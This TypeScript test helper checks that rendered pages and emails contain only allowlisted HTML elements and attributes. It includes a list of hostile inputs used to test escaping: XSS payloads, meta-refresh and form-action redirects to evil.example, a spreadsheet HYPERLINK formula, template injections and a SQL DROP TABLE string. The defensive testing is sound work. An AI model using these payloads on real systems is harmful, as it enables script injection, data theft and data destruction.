/** One element: its name, its attributes, and where they lead. */
export interface Element {
	name: string;
	attributes: Record<string, string>;
}

/** What the pages and mails are made of; anything else came from somewhere else. */
const ELEMENTS = new Set(
	'html head meta title style body header h1 h2 p div span a nav ul li main form input select option label button table caption thead tbody tr th td strong small br bdi textarea'.split(
		' ',
	),
);
const ATTRIBUTES = new Set(
	'lang charset http-equiv content name class id href hreflang aria-current aria-label role method action type value maxlength selected scope data-label target rel title download style rows readonly'.split(
		' ',
	),
);
/** Attributes that lead somewhere, or that a browser acts on. */
const LEADING: Readonly<Record<string, RegExp>> = {
	href: /^(\?[^:]*|#content|https:\/\/shop\.example\/admin\/index\.php\?controller=AdminOrders&id_order=\d+&vieworder|https:\/\/n8n\.example\/page)$/,
	action: /^\?$/,
	method: /^(get|post)$/,
	'http-equiv': /^Content-Security-Policy$/,
	target: /^_blank$/,
	style: /^[a-z0-9:;#% -]+$/,
	type: /^(hidden|checkbox|search|date)$/,
	role: /^(search|group|status|alert)$/,
};

/** Everything that is not the page's own. */
export function foreignTo(elements: Element[]): string[] {
	return elements.flatMap(({ name, attributes }) => [
		...(ELEMENTS.has(name) ? [] : [`<${name}>`]),
		...Object.entries(attributes).flatMap(([attribute, value]) =>
			!ATTRIBUTES.has(attribute) || (LEADING[attribute] && !LEADING[attribute].test(value))
				? [`<${name} ${attribute}="${value}">`]
				: [],
		),
	]);
}

/** Names only, to compare two pages that differ in their texts. */
export const shapeOf = (elements: Element[]): string =>
	elements.map(({ name, attributes }) => [name, ...Object.keys(attributes)].join(' ')).join('\n');

/**
 * Runs in a browser, over its own parser: every different element of some documents, and which of the documents have another
 * shape than the first.
 */
export const READ_DOCUMENTS = `(documents) => {
	const unique = new Map();
	const shapes = documents.map((markup) => [...new DOMParser().parseFromString(markup, 'text/html').querySelectorAll('*')].map((element) => {
		const attributes = [...element.attributes].map(({ name, value }) => [name, value]);
		unique.set(JSON.stringify([element.localName, attributes]), { name: element.localName, attributes: Object.fromEntries(attributes) });
		return [element.localName, ...attributes.map(([name]) => name)].join(' ');
	}).join('\\n'));
	return { elements: [...unique.values()], others: documents.map((_, index) => index).filter((index) => shapes[index] !== shapes[0]) };
}`;

/** Texts that would run, break out, lead away or turn the line around, were they not escaped. */
export const HOSTILE: readonly string[] = [
	'<script>alert(1)</script>',
	'"><img src=x onerror=alert(1)>',
	"' onmouseover='alert(1)",
	'" autofocus onfocus="alert(1)',
	'</td></tr></table><h1>x</h1>',
	'</style><script>alert(1)</script>',
	'</title></head><body onload=alert(1)>',
	'</textarea><script>alert(1)</script>',
	'<!--',
	'--><script>alert(1)</script>',
	']]><svg/onload=alert(1)>',
	'<svg><script>alert(1)</script>',
	'<iframe srcdoc="<script>alert(1)</script>">',
	'javascript:alert(1)',
	'<a href="https://evil.example">x</a>',
	'<base href=//evil.example/>',
	'<meta http-equiv=refresh content="0;url=//evil.example">',
	'<form action=//evil.example><button name=action value=process>',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;b&#62;',
	'&quot;onclick=alert(1)&quot;',
	'<b',
	'\u0000<b>',
	'\u202Eevil',
	'\u2028<b>\u2029',
	'＜script＞',
	'😀',
	'=HYPERLINK("//evil.example")',
	'{{ $json.key }}',
	'${alert(1)}',
	'x'.repeat(250),
	"Robert'); DROP TABLE ledger;--",
];
